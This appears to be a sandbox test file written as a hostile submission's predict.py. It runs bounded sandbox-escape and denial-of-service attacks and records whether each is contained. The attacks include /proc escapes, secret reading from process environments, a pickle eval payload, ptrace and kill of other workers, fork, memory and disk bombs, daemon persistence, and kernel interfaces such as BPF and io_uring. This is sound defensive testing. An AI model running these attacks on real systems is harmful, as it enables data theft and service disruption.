"""The attacks, as a submission would bring them: the text of this file is `predict.py`.

`WORLD` is put before it and names the attacks to try. Each returns what it gained or
raises; what they say goes to $OUTPUTS. All are bounded, since each also runs once with
nothing to hold it.
"""

import ctypes
import json
import mmap
import os
import pickle  # noqa: TID251  it is the attack
import resource
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

WORLD = globals().get("WORLD", {})
MIB = 2**20
HELD_MIB = 100  # what memory bombs take; the walls allow two thirds of it
libc = ctypes.CDLL(None, use_errno=True)


class Contained(Exception):
    pass


def gained(call, *arguments):
    answer = call(*arguments)
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


def read_passwd():
    return Path("/etc/passwd").read_text()[:20]


def read_labels():
    return Path(WORLD["labels"]).read_text()


def read_other_submission():
    return Path(WORLD["other_submission"]).read_text()


def unpickle_labels():
    class Payload:
        def __reduce__(self):
            return eval, (f"open({WORLD['labels']!r}).read()",)

    return pickle.loads(pickle.dumps(Payload()))


def escape_by_proc():
    for process in ("self", "1", str(os.getppid()), str(WORLD["worker"])):
        for door in ("root", "cwd"):
            try:
                climbed = f"/proc/{process}/{door}/{'../' * 12}{WORLD['labels']}"
                return Path(climbed).read_text()
            except OSError:
                continue
    raise Contained("no door leads out")


def read_environments():
    seen = [str(dict(os.environ))]
    for process in ("1", "self", str(os.getppid()), str(WORLD["worker"])):
        try:
            seen.append(Path(f"/proc/{process}/environ").read_text(errors="replace"))
        except OSError:
            continue
    if not any(WORLD["secret"] in one for one in seen):
        raise Contained("no secret in sight")
    return "the worker's secret"


def open_tcp():
    with socket.create_connection(("127.0.0.1", WORLD["tcp_port"]), timeout=3) as it:
        return it.recv(20).decode()


def send_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(3)
        out.sendto(b"labels", ("127.0.0.1", WORLD["udp_port"]))
        return out.recv(20).decode()


def ask_metadata():
    with socket.create_connection(tuple(WORLD["metadata"]), timeout=3) as it:
        return it.recv(20).decode()


def open_netlink():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as routes:
        routes.bind((0, 0))
        return "the kernel's routes"


def open_packets():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return "every packet"


def open_abstract_socket():
    with socket.socket(socket.AF_UNIX) as out:
        out.settimeout(3)
        out.connect("\0" + WORLD["abstract"])
        return out.recv(20).decode()


def kill_worker():
    os.kill(WORLD["victim"], signal.SIGKILL)
    return "signalled"


def trace_worker():
    gained(libc.ptrace, 16, WORLD["bystander"], 0, 0)  # PTRACE_ATTACH
    libc.ptrace(17, WORLD["bystander"], 0, 0)
    return "traced"


def limit_worker():
    resource.prlimit(WORLD["bystander"], resource.RLIMIT_NOFILE, (3, 3))
    return "limited"


def see_worker():
    return Path(f"/proc/{WORLD['victim']}/exe").readlink()


def see_parallel():
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if WORLD["parallel"].encode() in (folder / "cmdline").read_bytes():
                return "another submission runs"
        except OSError:
            continue
    raise Contained("nobody else is here")


def open_labels_to_all():
    Path(WORLD["labels"]).chmod(0o777)
    return "changed"


def hold(count, *, mib=0):
    """Start children that hold memory until this process ends; wait until all do."""
    readers = []
    end, ours = os.pipe()
    for _ in range(count):
        reader, writer = os.pipe()
        if os.fork() == 0:
            os.close(ours)
            block = bytearray(mib * MIB)
            block[::4096] = b"x" * len(block[::4096])
            os.write(writer, b"x")
            os.read(end, 1)
            os._exit(0)
        os.close(writer)
        readers.append(reader)
    for reader in readers:
        if not os.read(reader, 1):
            raise Contained("a child died")
        os.close(reader)


def fork_bomb():
    hold(80)
    return "80 processes"


def memory_bomb():
    block = bytearray(HELD_MIB * MIB)
    block[::4096] = b"x" * len(block[::4096])
    return f"{len(block) // MIB} MiB"


def many_small_bombs():
    hold(4, mib=HELD_MIB // 4)
    time.sleep(0.1)  # a watch is to have its turn
    return f"{HELD_MIB} MiB in four processes"


def memfd_bomb():
    fd = os.memfd_create("bomb")
    for _ in range(HELD_MIB):
        os.write(fd, b"x" * MIB)
    return f"{HELD_MIB} MiB that belong to no process"


def shared_memory_bomb():
    block = mmap.mmap(-1, HELD_MIB * MIB)
    for at in range(0, len(block), 4096):
        block[at] = 1
    time.sleep(0.1)  # likewise
    return f"{HELD_MIB} MiB of shared memory"


def page_table_bomb():
    """Read one page in each 2 MiB: what maps the page of zeros is nowhere counted."""
    norun = 0x4000  # MAP_NORESERVE
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | norun
    block = mmap.mmap(-1, HELD_MIB * 2**29, flags=flags, prot=mmap.PROT_READ)
    block.madvise(mmap.MADV_NOHUGEPAGE)
    for at in range(0, len(block), 2 * MIB):
        block[at]
    time.sleep(0.1)  # likewise
    return f"{HELD_MIB} MiB of page tables"


def fill_disk():
    written = 0
    for folder in (os.environ.get("TMPDIR", "/tmp"), "/dev/shm", "/var/tmp"):
        for number in range(5):
            path = Path(folder, f"{WORLD['token']}-filler-{number}")
            try:
                with path.open("wb") as file:
                    for _ in range(8):
                        file.write(b"x" * MIB)
                        written += 1
            except OSError:
                break
    if written < 40:
        raise Contained(f"{written} MiB written")
    time.sleep(1)  # likewise
    return f"{written} MiB"


def make_many_files():
    folder = os.environ.get("TMPDIR", "/tmp")
    for count in range(21_000):
        os.close(os.open(f"{folder}/{WORLD['token']}-{count}", os.O_CREAT))
    time.sleep(1)  # likewise
    return "21,000 files"


def leave_something():
    left = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", WORLD["home"]):
        try:
            Path(folder, WORLD["token"]).write_text("for the next one")
            left.append(folder)
        except OSError:
            continue
    if not left:
        raise Contained("nothing could be written")
    return f"written to {left}"


def survive():
    script = (
        f"import signal,time; signal.signal(15, 1); time.sleep(30) # {WORLD['token']}"
    )
    begun, ours = os.pipe()  # which exec closes
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.execv(sys.executable, [sys.executable, "-S", "-c", script])
        os._exit(0)
    os.close(ours)
    os.read(begun, 1)
    return "daemonised"


def sleep_for_ever():
    time.sleep(60)
    return "slept"


def burn():
    end = time.monotonic() + 60
    while time.monotonic() < end:
        pass
    return "burned"


def flood_log():
    line = b"x" * MIB
    for _ in range(8):
        os.write(1, line)
    return "8 MiB of log"


def flood_result():
    Path(os.environ["OUTPUTS"]).write_bytes(b"x" * (4 * MIB))
    os._exit(0)


def forge_answer():
    """Write to the pipe that our own program answers through."""
    written = 0
    for link in Path(f"/proc/{os.getppid()}/fd").iterdir():
        try:
            if "pipe" in str(link.readlink()):
                with link.open("wb", buffering=0) as pipe:
                    for _ in range(4):
                        written += pipe.write(b"x" * MIB)
        except OSError:
            continue
    if not written:
        raise Contained("no pipe could be opened")
    return f"{written} bytes"


def new_namespace():
    gained(libc.unshare, 0x10000000 | 0x20000)  # CLONE_NEWUSER | CLONE_NEWNS
    gained(libc.mount, b"none", b"/mnt", b"tmpfs", 0, None)
    return "mounted"


def keep_a_key():
    secret = b"left behind"
    arguments = (b"user", b"stoa-attack", secret, len(secret), -5)
    return str(gained(libc.syscall, numbered(248, 217), *arguments))


def numbered(x86_64, aarch64):
    return {"x86_64": x86_64, "aarch64": aarch64}[os.uname().machine]


def run_in_kernel():
    """Make a map for programs of BPF."""
    attributes = (ctypes.c_uint32 * 32)(2, 4, 4, 1)
    fd = gained(libc.syscall, numbered(321, 280), 0, attributes, 128)
    os.close(fd)
    return "a map in the kernel"


def catch_faults():
    fd = gained(libc.syscall, numbered(323, 282), 1)  # of user mode alone
    os.close(fd)
    return "the kernel waits for us"


def watch_performance():
    attributes = (ctypes.c_uint32 * 32)(1, 128)  # the processor's clock, by software
    fd = gained(libc.syscall, numbered(298, 241), attributes, 0, -1, -1, 0)
    os.close(fd)
    return "a counter"


def ring_buffer():
    """Ask for io_uring, which filters of system calls do not see into."""
    answer = libc.syscall(425, 4, ctypes.create_string_buffer(120))
    if answer < 0 and ctypes.get_errno() not in {22, 14}:
        raise OSError(ctypes.get_errno(), "io_uring")
    return "a ring"


def change_kernel():
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return "the kernel's core pattern is ours to write"


def run_setuid():
    found = subprocess.run(
        ["/usr/bin/su", "--version"], capture_output=True, check=True
    )
    uid = Path("/proc/self/status").read_text().split("NoNewPrivs:")[1].split()[0]
    if uid == "1":
        raise Contained("set-user-id programs gain nothing")
    return found.stdout.decode()


if __name__ == "__main__":
    said = {}
    for name in WORLD["attacks"]:
        try:
            said[name] = f"ESCAPED {globals()[name]()}"
        except (OSError, MemoryError, ValueError, Contained) as held:
            said[name] = f"CONTAINED {type(held).__name__} {held}"
    Path(os.environ["OUTPUTS"]).write_text(json.dumps(said))
